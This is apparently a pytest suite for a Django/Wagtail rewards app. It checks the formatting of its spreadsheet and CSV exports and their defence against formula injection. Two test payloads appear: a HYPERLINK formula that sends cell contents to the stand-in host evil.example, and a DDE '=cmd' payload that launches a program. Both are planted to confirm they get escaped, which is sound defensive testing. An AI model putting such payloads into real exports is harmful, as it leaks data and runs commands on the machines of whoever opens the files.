"""Every spreadsheet Kansha hands out is safe to open and ready to use: the report workbooks
and Wagtail's own list exports of mentions, grants and redemptions (CSV and XLSX)."""

from __future__ import annotations

import codecs
import csv
import io
import zipfile
from datetime import datetime

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from advocates.models import Advocate, Mention
from rewards.models import (
    ReconciliationItem,
    ReconciliationRun,
    Redemption,
    RedemptionReversal,
    RewardRule,
)
from rewards.reports import report_build
from tests.roles import FINANCE, user_in_role

from .conftest import at

FILTERS = {"date_range_from": "2026-11-01", "date_range_to": "2026-11-30"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your reward")'
DDE = "=cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def naive(moment: datetime) -> datetime:
    """A UTC time as the workbook holds it (Excel has no time zones)."""
    return moment.replace(tzinfo=None)


def _download(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _xlsx(response):
    return load_workbook(io.BytesIO(_download(response)))


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(_download(response).decode("utf-8"))))


def _text_cells(rows) -> list[str]:
    return [c for row in rows for c in row if isinstance(c, str)]


@pytest.fixture
def finance(client, program):
    client.force_login(user_in_role(FINANCE))
    return client


@pytest.fixture
def planted(program):
    """Somebody else's words in the cells finance will open: a mention text, an advocate's
    display name and a rule name (marketing's, but typed in a form)."""
    Mention.objects.filter(pk=Mention.objects.order_by("pk").first().pk).update(text=HYPERLINK)
    Advocate.objects.filter(display_name="Alice").update(display_name=DDE)
    RewardRule.objects.filter(name="USD five off").update(name=HYPERLINK)
    return program


# --- The report workbooks ---------------------------------------------------------------------


def test_the_redemptions_workbook_has_a_real_name(finance):
    response = finance.get(reverse("kansha_reports:redemptions"), {**FILTERS, "export": "xlsx"})
    assert response["Content-Disposition"] == (
        'attachment; filename="kansha-redemptions-2026-11-01-2026-11-30.xlsx"')
    response = finance.get(reverse("kansha_reports:redemptions"), {**FILTERS, "export": "csv"})
    assert response["Content-Disposition"] == (
        'attachment; filename="kansha-redemptions-2026-11-01-2026-11-30.csv"')


def test_the_redemptions_workbook_reads_back_typed_sized_frozen_and_filtered(finance):
    workbook = _xlsx(finance.get(reverse("kansha_reports:redemptions"),
                                 {**FILTERS, "export": "xlsx"}))
    # The cover: the filters used, typed, and when the workbook was made (UTC).
    about = workbook["About"]
    assert about.freeze_panes is None  # a cover sheet, not a table
    cover = {row[0]: row[1] for row in about.iter_rows(values_only=True) if row[0]}
    assert cover["Report"] == "Redemptions"
    assert cover["From"] == naive(at(1, 0))
    assert about["B3"].is_date
    assert about["B3"].number_format == "yyyy-mm-dd"
    assert cover["To (inclusive)"] == naive(at(30, 0))
    assert (cover["Reward rule"], cover["Currency"]) == ("all", "all")
    assert isinstance(cover["Generated"], datetime)
    assert "UTC" in cover["Times"]
    assert "Group by" not in cover  # redemptions are always by month: not a filter here

    sheet = workbook["By month, rule, tier"]  # "By month, rule, tier and currency", by word
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert header[:3] == ("month", "rule_id", "rule")
    month, currency = header.index("month"), header.index("currency")
    # The month is a date shown as a month: it sorts and filters.
    assert {r[month] for r in rows[1:]} == {naive(at(1, 0))}
    first = sheet.cell(row=2, column=month + 1)
    assert first.is_date
    assert first.number_format == "yyyy-mm"
    # Amounts are numbers in the currency's units, with its decimals: ¥500, $5.00.
    assert "discount_minor" not in header
    discount = header.index("discount")
    cells = {(r[currency], r[header.index("rule")]): sheet.cell(row=n, column=discount + 1)
             for n, r in enumerate(rows[1:], start=2) if r[header.index("redemptions")]}
    jpy, usd = cells["jpy", "Regulars 10%"], cells["usd", "USD five off"]
    assert (jpy.value, jpy.number_format) == (500, "#,##0")
    assert (usd.value, usd.number_format) == (5, "#,##0.00")
    assert usd.data_type == "n"
    # A rate is a fraction shown as a percentage.
    rate = sheet.cell(row=2, column=header.index("redemption_rate") + 1)
    assert rate.number_format == "0.0%"
    assert all(isinstance(r[header.index("redemption_rate")], int | float | None)
               for r in rows[1:])
    assert isinstance(rows[1][header.index("codes_issued")], int)
    # Ready to use: the heading row frozen, a filter over the whole table, real widths.
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(row=1, column=len(header)).column_letter}" \
                                    f"{len(rows)}"
    assert sheet.column_dimensions["C"].width >= len("Min order 20%")


def test_ledger_times_are_real_datetimes(finance):
    workbook = _xlsx(finance.get(reverse("kansha_reports:ledger"), {**FILTERS, "export": "xlsx"}))
    sheet = workbook["One row per grant"]
    rows = list(sheet.iter_rows(values_only=True))
    created = rows[0].index("created_at (UTC)")
    assert all(isinstance(r[created], datetime) for r in rows[1:])
    assert naive(at(5)) in {r[created] for r in rows[1:]}


@pytest.mark.parametrize("name", ["ambassador", "redemptions", "ledger", "liability"])
def test_sheet_names_are_whole_words_within_31_characters(finance, params, name):
    workbook = _xlsx(finance.get(reverse(f"kansha_reports:{name}"),
                                 {**FILTERS, "export": "xlsx"}))
    titles = [s.title for s in report_build(name=name, params=params).sections.values()]
    assert workbook.sheetnames[0] == "About"
    for sheet_name, title in zip(workbook.sheetnames[1:], titles, strict=True):
        assert len(sheet_name) <= 31
        words = [w.strip(",;.") for w in title.replace(":", " ").replace("/", " ").split()]
        # The first words of the section's title, whole.
        kept = [w.strip(",;.") for w in sheet_name.split()]
        assert words[:len(kept)] == kept


def test_the_report_workbook_and_csv_neutralise_a_planted_rule_name(finance, planted):
    url = reverse("kansha_reports:redemptions")
    workbook = _xlsx(finance.get(url, {**FILTERS, "export": "xlsx"}))
    cells = _text_cells(row for sheet in workbook for row in sheet.iter_rows(values_only=True))
    assert "'" + HYPERLINK in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    rows = _csv(finance.get(url, {**FILTERS, "export": "csv"}))
    assert "'" + HYPERLINK in _text_cells(rows)
    assert not any(c.startswith(FORMULA_STARTS) for c in _text_cells(rows))


def _zip(response) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(_download(response)))


def test_every_table_of_a_report_is_a_csv_of_its_own_in_a_zip(finance, planted):
    response = finance.get(reverse("kansha_reports:redemptions"), {**FILTERS, "export": "zip"})
    folder = "kansha-redemptions-2026-11-01-2026-11-30"
    assert response["Content-Disposition"] == f'attachment; filename="{folder}.zip"'
    archive = _zip(response)
    assert archive.namelist() == [
        f"{folder}/01-about.csv", f"{folder}/02-by-month-rule-tier-and-currency.csv",
        f"{folder}/03-totals-per-currency.csv",
        f"{folder}/04-average-order-value-with-and-without-a-code.csv"]
    about = archive.read(f"{folder}/01-about.csv")
    assert not about.startswith(codecs.BOM_UTF8)  # no BOM unless asked for
    cover = dict(row[:2] for row in csv.reader(io.StringIO(about.decode())) if row)
    assert (cover["From"], cover["To (inclusive)"]) == ("2026-11-01", "2026-11-30")
    summary = list(csv.reader(io.StringIO(
        archive.read(f"{folder}/02-by-month-rule-tier-and-currency.csv").decode())))
    header = summary[0]
    assert header[:3] == ["month", "rule_id", "rule"]
    totals = list(csv.reader(io.StringIO(
        archive.read(f"{folder}/03-totals-per-currency.csv").decode())))
    by_currency = {r[totals[0].index("currency")]: r for r in totals[1:]}
    assert by_currency["usd"][totals[0].index("discount_minor")] == "500"  # minor units
    # The planted rule name arrives as text in every file.
    cells = [c for name in archive.namelist()
             for c in _text_cells(csv.reader(io.StringIO(archive.read(name).decode())))]
    assert "'" + HYPERLINK in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)


def test_the_zip_for_excel_in_japanese_starts_each_csv_with_a_bom(finance, program):
    RewardRule.objects.filter(name="Regulars 10%").update(name="常連さん10%オフ")
    response = finance.get(reverse("kansha_reports:ledger"),
                           {**FILTERS, "export": "zip", "bom": "1"})
    assert response["Content-Disposition"] == (
        'attachment; filename="kansha-ledger-2026-11-01-2026-11-30-excel.zip"')
    archive = _zip(response)
    for name in archive.namelist():
        assert archive.read(name).startswith(codecs.BOM_UTF8)
    ledger = archive.read(archive.namelist()[1]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(ledger)))
    assert "created_at (UTC)" in rows[0]  # times are UTC, and the heading says so
    assert "常連さん10%オフ" in _text_cells(rows)


def test_the_report_pages_offer_the_workbook_and_both_zips(finance):
    page = finance.get(reverse("kansha_reports:redemptions"), FILTERS).content.decode()
    assert "export=xlsx" in page
    assert "export=zip" in page
    assert "bom=1" in page


# --- Wagtail's list exports of Kansha's rows --------------------------------------------------

LISTS = {  # named after the model's plural
    "mentions": ("wagtailsnippets_advocates_mention:list", HYPERLINK),
    "reward-grants": ("wagtailsnippets_rewards_rewardgrant:list", DDE),  # the advocate's name
    "redemptions": ("wagtailsnippets_rewards_redemption:list", HYPERLINK),  # the rule's name
}


@pytest.mark.parametrize("rows", list(LISTS))
def test_a_list_csv_export_neutralises_formulas(admin_client, planted, rows):
    url, planted_text = LISTS[rows]
    response = admin_client.get(reverse(url), {"export": "csv"})
    today = timezone.localdate()
    assert response["Content-Disposition"] == (
        f'attachment; filename="kansha-{rows}-{today:%Y-%m-%d}.csv"')
    cells = _text_cells(_csv(response))
    assert "'" + planted_text in cells
    assert planted_text not in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.parametrize("rows", list(LISTS))
def test_a_list_xlsx_export_neutralises_formulas_and_is_ready_to_use(admin_client, planted,
                                                                      rows):
    url, planted_text = LISTS[rows]
    response = admin_client.get(reverse(url), {"export": "xlsx"})
    assert response["Content-Disposition"] == (
        f'attachment; filename="kansha-{rows}-{timezone.localdate():%Y-%m-%d}.xlsx"')
    workbook = _xlsx(response)
    sheet = workbook.worksheets[0]
    assert sheet.title.casefold() == rows.replace("-", " ")  # "Mentions", not "Sheet1"
    table = list(sheet.iter_rows(values_only=True))
    cells = _text_cells(table)
    assert "'" + planted_text in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    assert all(sheet.column_dimensions[c.column_letter].width for c in sheet[1])


def test_a_mention_list_export_has_real_posting_times(admin_client, program):
    workbook = _xlsx(admin_client.get(reverse(LISTS["mentions"][0]), {"export": "xlsx"}))
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    posted = rows[0].index("Posted at (UTC)")
    assert naive(at(3)) in {r[posted] for r in rows[1:]}


def test_refund_lists_keep_negative_amounts_as_numbers_and_escape_text(admin_client, program):
    """A reversal's amounts are negative numbers: they stay numbers (a number is never run as
    a formula), while text beside them is escaped."""
    redemption = Redemption.objects.get(source_id="cs_jpy:promo_JPYONE")
    RedemptionReversal.objects.create(redemption=redemption, kind="refund", source_id=DDE,
                                      order_amount_minor=-4500, discount_minor=-500,
                                      currency="jpy", reversed_at=at(20))
    url = reverse("wagtailsnippets_rewards_redemptionreversal:list")
    sheet = _xlsx(admin_client.get(url, {"export": "xlsx"})).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    assert row[header.index("Source id")] == "'" + DDE
    assert row[header.index("Order amount")] == -4500  # yen: the amount in its own units
    assert sheet.cell(row=2, column=header.index("Order amount") + 1).number_format == "#,##0"
    header, row = _csv(admin_client.get(url, {"export": "csv"}))
    assert row[header.index("Source id")] == "'" + DDE
    assert row[header.index("Order amount minor")] == "-4500"


def test_the_redemptions_list_xlsx_holds_amounts_in_their_currency(admin_client, program):
    sheet = _xlsx(admin_client.get(reverse(LISTS["redemptions"][0]),
                                   {"export": "xlsx"})).worksheets[0]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    assert "Discount minor" not in header
    by_currency = {r[header.index("Currency")].value: r for r in rows[1:]}
    jpy = by_currency["jpy"][header.index("Discount")]
    usd = by_currency["usd"][header.index("Discount")]
    assert (jpy.value, jpy.number_format) == (500, "#,##0")
    assert (usd.value, usd.number_format) == (5, "#,##0.00")
    # The CSV keeps the stored minor units.
    csv_rows = _csv(admin_client.get(reverse(LISTS["redemptions"][0]), {"export": "csv"}))
    assert "Discount minor" in csv_rows[0]


def test_the_reconciliation_exports_are_neutralised_too(finance):
    run = ReconciliationRun.objects.create(date_from=at(1).date(), date_to=at(30).date(),
                                           trigger="command")
    ReconciliationItem.objects.create(run=run, kind="missing_ours", object_type="checkout_session",
                                      stripe_id="cs_1", detail=HYPERLINK, currency="jpy")
    url = reverse("kansha_reports:reconciliation")
    rows = _csv(finance.get(url, {"run": run.pk, "export": "csv"}))
    assert "'" + HYPERLINK in _text_cells(rows)
    assert not any(c.startswith(FORMULA_STARTS) for c in _text_cells(rows))
    response = finance.get(url, {"run": run.pk, "export": "xlsx"})
    assert response["Content-Disposition"] == (
        f'attachment; filename="kansha-reconciliation-2026-11-01-2026-11-30-run{run.pk}.xlsx"')
    workbook = _xlsx(response)
    cells = _text_cells(row for sheet in workbook for row in sheet.iter_rows(values_only=True))
    assert "'" + HYPERLINK in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    archive = _zip(finance.get(url, {"run": run.pk, "export": "zip"}))
    cells = [c for name in archive.namelist()
             for c in _text_cells(csv.reader(io.StringIO(archive.read(name).decode())))]
    assert "'" + HYPERLINK in cells
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "zip"])
def test_reconciliation_downloads_work_before_the_first_run(finance, fmt):
    response = finance.get(reverse("kansha_reports:reconciliation"), {"export": fmt})
    assert response.status_code == 200
    assert 'filename="kansha-reconciliation' in response["Content-Disposition"]
